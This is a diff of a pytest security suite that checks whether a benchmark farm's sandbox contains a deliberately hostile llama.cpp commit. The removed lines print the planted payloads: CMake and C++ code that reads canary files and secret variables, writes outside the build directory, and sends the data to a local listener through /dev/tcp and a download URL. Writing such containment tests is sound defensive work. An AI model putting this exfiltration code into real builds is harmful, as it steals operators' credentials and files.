@@ -19,267 +19,61 @@ planted code's own line (it ran) saying it read nothing. With the sandbox off
 its files, so these tests can fail. (The worker's variables reach neither way: builds and
 servers get a minimal environment whether sandboxed or not.)
 
+Every server start of it also forks a daemon that sleeps: none outlives its sandbox. And a
+job can make the same commit hostile to the worker itself (tests/security/hostile_plant.py):
+its server, by the model alias the job gives it, reports its decode 1.6x faster than it
+ran (the job's speedup is the client's clock's, flagged), answers `/metrics` with a
+position of a billion or streams past its n-predict (the job fails with the bound's
+reason), or swaps its socket for a link to a UNIX listener of the test's (never reached);
+its build, by an engine option, prints one endless line, hides sparse files over the
+folder's bound under a mode-000 folder, or leaves `ccache.stats` a FIFO or a link to
+/dev/zero (the job fails with the reason, in seconds). `farm run`'s peak RSS is read
+while it meets them.
+
 Each test builds the commit in a cache dir of its own (so its configure runs the planted
 CMake code); the node's ccache serves what the provisioned build compiled, so only the
-configure, the commit's own translation units and the links cost time.
+configure, the commit's own translation units and the links cost time. The hostile
+server's jobs reuse the sandboxed `farm run`'s build; a hostile build's configure makes
+three tiny targets instead of the tree's.
 """
 
 from __future__ import annotations
 
 import os
 import secrets
-import socketserver
+import statistics
 import subprocess
-import sys
-import threading
 import time
 from collections.abc import Iterator
-from dataclasses import dataclass, field, replace
+from dataclasses import replace
 from pathlib import Path
 from typing import Any
 
 import pytest
 import yaml
-from sqlalchemy import Row, select
-from sqlalchemy.orm import Session
+from sqlalchemy import Row
 
-from farm.store.db import make_engine
-from farm.store.models import Campaign, Job, Run
 from tests.e2e import planted
 from tests.e2e.test_fleet import Fleet, shared_redis_fleet, wait_for
 from tests.helpers import COPY_PROMPT
+from tests.security import hostile_plant
+from tests.security.hostile_plant import BUILD_MODES, LIE_FACTOR, POSITION
+from tests.security.hostile_world import (
+    FARM,
+    FarmRun,
+    Listener,
+    World,
+    farm_run,
+    jobs_of,
+    kill_daemons,
+    runs_of,
+    serve,
+)
 from workers.setup.provision import Provisioned
 
 pytestmark = pytest.mark.server
-FARM = str(Path(sys.executable).with_name("farm"))
-TOP_CMAKE_LINE = 'project("llama.cpp" C CXX)\n'
-SERVER_SOURCE = "tools/server/server.cpp"
-SERVER_MAIN = "int llama_server(int argc, char ** argv) {\n"
-CACHES = ("off", "on", "worker")  # a cache dir per test: each configures the commit
-
-
-@dataclass
-class Listener:
-    """A TCP listener on 127.0.0.1: every connection's bytes (an HTTP request is answered
-    200 and closed, so a download ends at once)."""
-
-    port: int = 0
-    received: list[bytes] = field(default_factory=list)
-    lock: threading.Lock = field(default_factory=threading.Lock)
-
-    def take(self) -> list[bytes]:
-        """What connections brought since the last take."""
-        with self.lock:
-            taken, self.received[:] = list(self.received), []
-        return taken
-
-
-def _serve(listener: Listener) -> socketserver.ThreadingTCPServer:
-    class Handler(socketserver.BaseRequestHandler):
-        def handle(self) -> None:
-            data = b""
-            self.request.settimeout(5)
-            try:
-                while chunk := self.request.recv(65536):
-                    data += chunk
-                    if b"\r\n\r\n" in data:
-                        self.request.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: 2\r\n\r\nok")
-                        break
-            except OSError:
-                pass
-            with listener.lock:
-                listener.received.append(data)
-
-    server = socketserver.ThreadingTCPServer(("127.0.0.1", 0), Handler)
-    server.daemon_threads = True
-    listener.port = server.server_address[1]
-    threading.Thread(target=server.serve_forever, daemon=True).start()
-    return server
-
-
-@dataclass(frozen=True)
-class World:
-    """The worker's side the hostile commit goes for, and the commit."""
-
-    root: Path
-    home: Path  # the worker's (fake) home
-    data: Path  # FARM_DATA_DIR of every test here
-    plant: Path  # a folder outside any build dir
-    ccache: Path  # the operator's ccache (CCACHE_DIR), which no job's build may write
-    caches: dict[str, Path]  # each test's FARM_CACHE_DIR
-    tokens: dict[str, str]  # canary name -> its secret value
-    listener: Listener
-    repo: Path
-    commit: str
-
-    @property
-    def config(self) -> Path:
-        return self.home / ".config" / "specfarm"
-
-    @property
-    def database(self) -> str:
-        """`farm run`'s store, named in its environment (a canary too)."""
-        return f"sqlite:///{self.data / 'farm.db'}"
-
-    @property
-    def url(self) -> str:
-        return f"file://{self.repo}"
-
-    def env(self, **extra: str) -> dict[str, str]:
-        """The worker's environment: the fake home, the data dir, the secret variable."""
-        return {**os.environ, "HOME": str(self.home), "FARM_DATA_DIR": str(self.data),
-                "FARM_CANARY_SECRET": self.tokens["env"], **extra}
-
-    def planted(self) -> list[Path]:
-        """The files the commit's code wrote outside its build dir."""
-        return sorted(path for folder in self.targets for path in folder.glob("planted-*"))
-
-    @property
-    def targets(self) -> list[Path]:
-        """Where the commit's code tries to write."""
-        return [self.plant, self.home, self.ccache, *self.caches.values()]
-
-    def reset(self) -> None:
-        """No planted file, nothing received: each test starts from here."""
-        for path in self.planted():
-            path.unlink()
-        self.listener.take()
-
-
-def cmake_snippet(reads: list[Path], writes: list[Path], port: int) -> str:
-    """Configure-time code: read the canaries, send them, write outside the build dir. Only
-    `execute_process` and `file(DOWNLOAD)` touch the outside (their failures are not
-    errors), so the configure goes on whatever the sandbox refuses. It logs one line of
-    what it managed (no secret in it): the build log shows it ran."""
-    files = " ".join(f'"{path}"' for path in reads)
-    targets = " ".join(f'"{path / "planted-by-cmake"}"' for path in writes)
-    return f"""
-# --- planted: what a hostile pull request's CMakeLists could do ---
-execute_process(COMMAND cat {files} OUTPUT_VARIABLE _hostile_files ERROR_QUIET)
-string(LENGTH "${{_hostile_files}}" _hostile_read)
-set(_hostile_got "from=cmake\\n${{_hostile_files}}\\n")
-set(_hostile_secrets 0)
-foreach(_hostile_name FARM_CANARY_SECRET FARM_DATABASE_URL)
-  if(DEFINED ENV{{${{_hostile_name}}}})
-    math(EXPR _hostile_secrets "${{_hostile_secrets}} + 1")
-  endif()
-  string(APPEND _hostile_got "env ${{_hostile_name}}=$ENV{{${{_hostile_name}}}}\\n")
-endforeach()
-file(WRITE "${{CMAKE_BINARY_DIR}}/hostile-got.txt" "${{_hostile_got}}")
-set(_hostile_wrote "")
-foreach(_hostile_target {targets})
-  execute_process(COMMAND cp "${{CMAKE_BINARY_DIR}}/hostile-got.txt" "${{_hostile_target}}"
-                  RESULT_VARIABLE _hostile_copied ERROR_QUIET)
-  if(_hostile_copied EQUAL 0)
-    string(APPEND _hostile_wrote " ${{_hostile_target}}")
-  endif()
-endforeach()
-# The node's ccache, which a job's build reads and may not write (planted() looks there).
-execute_process(COMMAND cp "${{CMAKE_BINARY_DIR}}/hostile-got.txt"
-                        "$ENV{{CCACHE_DIR}}/planted-by-cmake"
-                RESULT_VARIABLE _hostile_ccache ERROR_QUIET)
-execute_process(COMMAND bash -c "cat \\"$0\\" > /dev/tcp/127.0.0.1/{port}"
-                        "${{CMAKE_BINARY_DIR}}/hostile-got.txt"
-                RESULT_VARIABLE _hostile_tcp ERROR_QUIET TIMEOUT 10)
-file(DOWNLOAD "http://127.0.0.1:{port}/cmake-download/$ENV{{FARM_CANARY_SECRET}}"
-     "${{CMAKE_BINARY_DIR}}/hostile-download.txt" TIMEOUT 10 STATUS _hostile_download)
-list(GET _hostile_download 0 _hostile_download)
-message(STATUS "hostile-cmake: read ${{_hostile_read}} canary bytes, "
-               "${{_hostile_secrets}} secret variables, wrote [${{_hostile_wrote}} ], "
-               "listener: bash ${{_hostile_tcp}} curl ${{_hostile_download}}, "
-               "ccache $ENV{{CCACHE_DIR}}: ${{_hostile_ccache}}")
-# --- end of planted ---
-"""
-
-
-def server_snippet(reads: list[Path], writes: list[Path], port: int) -> str:
-    """The same from `llama-server`, POSIX calls only; it returns and the server goes on.
-    Outside the `--version`/`--help` probes it logs one line of what it managed (no
-    secret in it): the server log shows it ran."""
-    files = ", ".join(f'"{path}"' for path in reads)
-    targets = ", ".join(f'"{path / "planted-by-server"}"' for path in writes)
-    return f"""
-// --- planted: what a hostile pull request's llama-server could do ---
-#include <arpa/inet.h>
-#include <netinet/in.h>
-#include <sys/socket.h>
-#include <unistd.h>
-#include <cerrno>
-#include <cstdio>
-#include <cstdlib>
-#include <cstring>
-#include <string>
-
-static std::string hostile_slurp(const char * path) {{
-    std::string text;
-    if (FILE * file = std::fopen(path, "rb")) {{
-        char buffer[512];
-        size_t n;
-        while ((n = std::fread(buffer, 1, sizeof buffer, file)) > 0) {{
-            text.append(buffer, n);
-        }}
-        std::fclose(file);
-    }}
-    return text;
-}}
-
-static void hostile_try(int argc, char ** argv) {{
-    std::string got = "from=server pid=" + std::to_string(getpid()) + "\\n";
-    size_t read = 0;
-    for (const char * path : {{{files}}}) {{
-        std::string text = hostile_slurp(path);
-        read += text.size();
-        got += std::string("file ") + path + "=" + text + "\\n";
-    }}
-    int secrets = 0;
-    for (const char * name : {{"FARM_CANARY_SECRET", "FARM_DATABASE_URL"}}) {{
-        const char * value = std::getenv(name);
-        secrets += value != nullptr;
-        got += std::string("env ") + name + "=" + (value ? value : "") + "\\n";
-    }}
-    std::string wrote;
-    for (const char * path : {{{targets}}}) {{
-        if (FILE * file = std::fopen(path, "a")) {{
-            std::fputs(got.c_str(), file);
-            std::fclose(file);
-            wrote += std::string(" ") + path;
-        }}
-    }}
-    std::string reached = "no socket";
-    int fd = socket(AF_INET, SOCK_STREAM, 0);
-    if (fd >= 0) {{
-        sockaddr_in address{{}};
-        address.sin_family = AF_INET;
-        address.sin_port = htons({port});
-        address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
-        if (connect(fd, reinterpret_cast<sockaddr *>(&address), sizeof address) == 0) {{
-            ssize_t sent = write(fd, got.data(), got.size());
-            reached = sent > 0 ? "sent" : "connected";
-        }} else {{
-            reached = std::strerror(errno);
-        }}
-        close(fd);
-    }}
-    for (int i = 1; i < argc; i++) {{
-        if (!std::strcmp(argv[i], "--version") || !std::strcmp(argv[i], "--help")) {{
-            return;
-        }}
-    }}
-    std::fprintf(stderr, "hostile-server: read %zu canary bytes, %d secret variables, "
-                 "wrote [%s ], listener: %s\\n", read, secrets, wrote.c_str(), reached.c_str());
-}}
-// --- end of planted ---
-
-"""
-
-
-def plant_hostile(repo: Path, reads: list[Path], writes: list[Path], port: int) -> None:
-    """The hostile commit's changes: the CMake code after `project()`, the server's at the
-    start of `llama_server(argc, argv)` (main calls it first)."""
-    planted.edit(repo / "CMakeLists.txt", TOP_CMAKE_LINE,
-                 TOP_CMAKE_LINE + cmake_snippet(reads, writes, port))
-    planted.edit(repo / SERVER_SOURCE, SERVER_MAIN, server_snippet(reads, writes, port)
-                 + SERVER_MAIN + "    hostile_try(argc, argv);\n")
+# A cache dir per test: each configures the commit (the hostile server's jobs use "on"'s).
+CACHES = ("off", "on", "worker", "builds")
 
 
 @pytest.fixture(scope="module")
@@ -294,25 +88,28 @@ def world(provisioned: Provisioned, tmp_path_factory: pytest.TempPathFactory
     tokens = {name: f"CANARY-{name}-{secrets.token_hex(8)}" for name in ("config", "data", "env")}
     (config / "canary").write_text(tokens["config"] + "\n")
     (data / "canary").write_text(tokens["data"] + "\n")
-    listener = Listener()
-    server = _serve(listener)
+    listener, unix = Listener(), Listener()
     repo = root / "llama.cpp"
     planted.sdist_repository(repo, "A: b11434 from the sdist")
     world = World(root, home, data, plant, Path(os.environ["CCACHE_DIR"]), caches, tokens,
-                  listener, repo, "")
+                  listener, unix, repo, "")
+    servers = [serve(listener), serve(unix, world.unix_path)]
     # Outside the build dir: a folder of the test's, the worker's home, the operator's
     # ccache, and the top of each test's cache dir (where the node's builds live).
-    plant_hostile(repo, [config / "canary", data / "canary"], world.targets, listener.port)
+    hostile_plant.plant_hostile(repo, [config / "canary", data / "canary"], world.targets,
+                                listener.port, world.unix_path)
     commit = planted.commit(repo, "B: a pull request that goes for the worker's secrets")
     try:
         yield replace(world, commit=commit)
     finally:
+        kill_daemons()
         world.reset()
-        server.shutdown()
-        server.server_close()
+        for server in servers:
+            server.shutdown()
+            server.server_close()
 
 
-def _matrix(path: Path, campaign: str, build: dict[str, str], model: dict[str, str],
+def _matrix(path: Path, campaign: str, build: dict[str, Any], model: dict[str, str],
             **extra: object) -> Path:
     """SmolLM2, baseline against ngram-simple, one prompt, one pair: the benchmark works."""
     path.write_text(yaml.safe_dump({
@@ -323,35 +120,17 @@ def _matrix(path: Path, campaign: str, build: dict[str, str], model: dict[str, s
     return path
 
 
-def _runs(database_url: str, campaign: str) -> list[Row[Any]]:
-    engine = make_engine(database_url)
-    try:
-        with Session(engine) as session:
-            return list(session.execute(
-                select(Run.arm, Run.build_commit, Run.generated_tokens, Run.decode_tok_s,
-                       Run.sandboxed, Run.server_log, Run.worker_name)
-                .join(Job).join(Campaign).where(Campaign.name == campaign)))
-    finally:
-        engine.dispose()
-
-
 def _farm_run(world: World, tmp_path: Path, smollm2: Path, cache: str,
-              **env: str) -> tuple[list[Row[Any]], float]:
-    """`farm run` of the hostile commit as a worker would run it (its home, data dir,
-    database URL and secret in its environment), built in cache dir ``cache``; the
-    campaign's runs and the seconds it took."""
+              **env: str) -> tuple[list[Row[Any]], FarmRun]:
+    """`farm run` (``farm_run``) of the benign matrix on the hostile commit, built in cache
+    dir ``cache``; the campaign's runs and how the run went."""
     campaign = f"hostile-{cache}"
     matrix = _matrix(tmp_path / "matrix.yaml", campaign,
                      {"name": "pr", "git": world.url, "ref": world.commit},
                      {"name": "smollm2", "path": str(smollm2)})
-    started = time.monotonic()
-    result = subprocess.run(
-        [FARM, "run", str(matrix)], capture_output=True, text=True, timeout=1800, check=False,
-        env=world.env(FARM_CACHE_DIR=str(world.caches[cache]),
-                      FARM_DATABASE_URL=world.database, **env))
-    seconds = time.monotonic() - started
-    assert result.returncode == 0, result.stdout[-3000:] + result.stderr[-5000:]
-    return _runs(world.database, campaign), seconds
+    ran = farm_run(world, matrix, cache, **env)
+    assert ran.result.returncode == 0, ran.result.stdout[-3000:] + ran.result.stderr[-5000:]
+    return runs_of(world.database, campaign), ran
 
 
 def _assert_benchmarked(runs: list[Row[Any]], commit: str, *, sandboxed: bool) -> None:
@@ -394,7 +173,7 @@ def test_sandbox_off_the_planted_commit_reaches_every_canary(
     """The control: without the sandbox the commit's CMake code and its server reach the
     listener with the canaries and write their files (the sandboxed tests can fail)."""
     world.reset()
-    runs, seconds = _farm_run(world, tmp_path, smollm2, "off", FARM_SANDBOX="off")
+    runs, ran = _farm_run(world, tmp_path, smollm2, "off", FARM_SANDBOX="off")
     _assert_benchmarked(runs, world.commit, sandboxed=False)
     received = [data.decode(errors="replace") for data in world.listener.take()]
     by_origin = {origin: [text for text in received if origin in text]
@@ -415,19 +194,113 @@ def test_sandbox_off_the_planted_commit_reaches_every_canary(
     [cmake] = [line for log in world.caches["off"].rglob("build-specfarm-*.log")
                for line in log.read_text().splitlines() if "hostile-cmake:" in line]
     assert "listener: bash 0 curl 0," in cmake, cmake
-    print(f"\nsandbox off: farm run {seconds:.0f} s; the listener got {len(received)} "
+    # Each server's daemon outlived it (its own session: the farm's kill of the server's
+    # process group misses it); the sandbox's PID namespace is what ends them.
+    left = kill_daemons()
+    assert left, "no daemon of the servers' outlived them without the sandbox"
+    print(f"\nsandbox off: farm run {ran.seconds:.0f} s; the listener got {len(received)} "
           f"connections ({', '.join(f'{k}: {len(v)}' for k, v in by_origin.items())}), "
-          f"{len(names)} files planted; variables that reached it: {variables or 'none'}")
+          f"{len(names)} files planted; variables that reached it: {variables or 'none'}; "
+          f"{len(left)} daemons left running (killed)")
     world.reset()
 
 
 def test_farm_run_sandboxed_the_commit_benchmarks_and_reaches_nothing(
         world: World, tmp_path: Path, smollm2: Path) -> None:
     world.reset()
-    runs, seconds = _farm_run(world, tmp_path, smollm2, "on")
+    runs, ran = _farm_run(world, tmp_path, smollm2, "on")
     _assert_benchmarked(runs, world.commit, sandboxed=True)
     got = _assert_held(world, runs, "on")
-    print(f"\nsandbox on: farm run {seconds:.0f} s; the commit got: {got}")
+    assert kill_daemons() == [], "a server's daemon outlived its sandbox"
+    print(f"\nsandbox on: farm run {ran.seconds:.0f} s (peak RSS {ran.peak_mib:.0f} MiB); "
+          f"the commit got: {got}; no daemon left")
+
+
+# The hostile server's jobs: each variant runs ngram-simple under the alias that sets its
+# server's mode (hostile_plant.MODES); the baseline is the commit's server, unchanged.
+SERVER_JOBS = {"lie": "hostile-lie", "socket": "hostile-socket", "metrics": "hostile-metrics",
+               "stream": "hostile-stream"}
+
+
+def test_a_hostile_server_is_refused_or_outvoted_and_leaves_nothing_behind(
+        world: World, tmp_path: Path, smollm2: Path) -> None:
+    """On the sandboxed run's build: a server reporting its drafting 1.6x faster than it ran
+    is flagged and its job's speedup is the client's clock's; a socket swapped for a link
+    mid-job is never followed (the job runs on, the link's listener hears nothing); a
+    billion-position `/metrics` and a stream past its n-predict fail their jobs with the
+    bound's reason; no daemon is left; `farm run`'s memory stays flat."""
+    world.reset()
+    variants = [{"name": name, "flags": {"spec-type": "ngram-simple", "alias": alias}}
+                for name, alias in SERVER_JOBS.items()]
+    matrix = _matrix(tmp_path / "server.yaml", "hostile-server",
+                     {"name": "pr", "git": world.url, "ref": world.commit},
+                     {"name": "smollm2", "path": str(smollm2)}, variants=variants,
+                     repetitions=4, **{"n-predict": 32})
+    ran = farm_run(world, matrix, "on")
+    assert ran.result.returncode == 1, ran.result.stdout[-3000:] + ran.result.stderr[-3000:]
+    jobs = jobs_of(world.database, "hostile-server")
+    assert {name: job.state for name, job in jobs.items()} == {
+        "lie": "done", "socket": "done", "metrics": "failed", "stream": "failed"}, jobs
+    assert f"draft position {POSITION}" in jobs["metrics"].error, jobs["metrics"].error
+    assert "streamed over" in jobs["stream"].error, jobs["stream"].error
+    assert {jobs[name].failure_class for name in ("metrics", "stream")} == {"request_failed"}
+    # The swap happened (its line in the variant's log) and was never followed.
+    assert world.unix.take() == []
+    logs = [Path(run.server_log).read_text() for run in runs_of(world.database, "hostile-server")
+            if run.arm == "variant"]
+    assert any("hostile-socket: swapped for a link (rename 0, symlink 0)" in log
+               for log in logs), "the socket was not swapped"
+    told, witnessed = _lie(world.database, jobs["lie"].summary)
+    assert kill_daemons() == [], "a server's daemon outlived its sandbox"
+    assert ran.peak_mib < 1024, ran.peak_mib
+    print(f"\nhostile server: farm run {ran.seconds:.0f} s, peak RSS {ran.peak_mib:.0f} MiB; "
+          f"the lie's speedup {told:.2f}x by the server's timings, {witnessed:.2f}x reported "
+          f"(the client's clock, flagged); metrics: {jobs['metrics'].error!r}; "
+          f"stream: {jobs['stream'].error!r}")
+
+
+def _lie(database_url: str, summary: dict[str, Any]) -> tuple[float, float]:
+    """The lying job's speedup by its server's timings (the arms' median decode tok/s as
+    the runs recorded them) and as it reports it: the client's clock's, 1.6x apart, the
+    disagreement flagged."""
+    runs = [run for run in runs_of(database_url, "hostile-server")
+            if run.variant_name == "lie"]
+    assert summary["speed_clock"] == "client" and summary["clock_flag"] is True, summary
+    assert abs(summary["clock_disagreement"] / LIE_FACTOR - 1) < 0.05, summary
+    assert abs(summary["clock_ratio_baseline"] - 1) < 0.05, summary
+    medians = {arm: statistics.median(run.decode_tok_s for run in runs if run.arm == arm)
+               for arm in ("baseline", "variant")}
+    told = medians["variant"] / medians["baseline"]
+    assert abs(told / summary["speedup"] / LIE_FACTOR - 1) < 0.1, (told, summary["speedup"])
+    return told, float(summary["speedup"])
+
+
+# What each hostile build's job fails with (hostile_plant.BUILD_MODES).
+BUILD_ERRORS = {"endless line": "was stopped: it printed over 64 MiB",
+                "mode-000 folder of sparse files": "its build folder holds over 32 GiB",
+                "ccache.stats a FIFO": "is a FIFO, not a regular file",
+                "ccache.stats a link to /dev/zero": "is a symbolic link"}
+
+
+@pytest.mark.parametrize("mode", list(BUILD_MODES))
+def test_a_hostile_build_fails_its_job_with_the_reason_in_seconds(
+        world: World, tmp_path: Path, smollm2: Path, mode: str) -> None:
+    """The commit's configure, chosen by an engine option, prints one endless line, hides
+    sparse files over the build folder's bound under a mode-000 folder, or leaves
+    `ccache.stats` a FIFO or a link to /dev/zero: the job fails with that reason within a
+    minute, `farm run`'s memory flat."""
+    campaign = f"hostile-build-{BUILD_MODES[mode]}"
+    matrix = _matrix(tmp_path / "build.yaml", campaign,
+                     {"name": f"pr-{BUILD_MODES[mode]}", "git": world.url, "ref": world.commit,
+                      "cmake": [f"-DGGML_SCHED_MAX_COPIES={BUILD_MODES[mode]}"]},
+                     {"name": "smollm2", "path": str(smollm2)})
+    ran = farm_run(world, matrix, "builds")
+    output = ran.result.stdout + ran.result.stderr
+    assert ran.result.returncode != 0, output[-3000:]
+    assert BUILD_ERRORS[mode] in output, output[-3000:]
+    assert ran.seconds < 120 and ran.peak_mib < 1024, (ran.seconds, ran.peak_mib)
+    line = next(line for line in output.splitlines() if BUILD_ERRORS[mode] in line)
+    print(f"\n{mode}: farm run {ran.seconds:.0f} s, peak RSS {ran.peak_mib:.0f} MiB: {line}")
 
 
 @pytest.fixture
@@ -464,8 +337,10 @@ def test_a_worker_builds_and_runs_the_commit_sandboxed_and_it_reaches_nothing(
     seconds = time.monotonic() - started
     [job] = fleet.jobs()
     assert job.state == "done", (job.error, fleet.logs()[-5000:])
-    runs = _runs(fleet.env["FARM_DATABASE_URL"], "hostile-worker")
+    runs = runs_of(fleet.env["FARM_DATABASE_URL"], "hostile-worker")
     _assert_benchmarked(runs, world.commit, sandboxed=True)
     assert {run.worker_name for run in runs} == {"hostile"}
     got = _assert_held(world, runs, "worker")
-    print(f"\nworker, sandbox on: job {seconds:.0f} s after submit; the commit got: {got}")
+    assert kill_daemons() == [], "a server's daemon outlived its sandbox"
+    print(f"\nworker, sandbox on: job {seconds:.0f} s after submit; the commit got: {got}; "
+          "no daemon left")
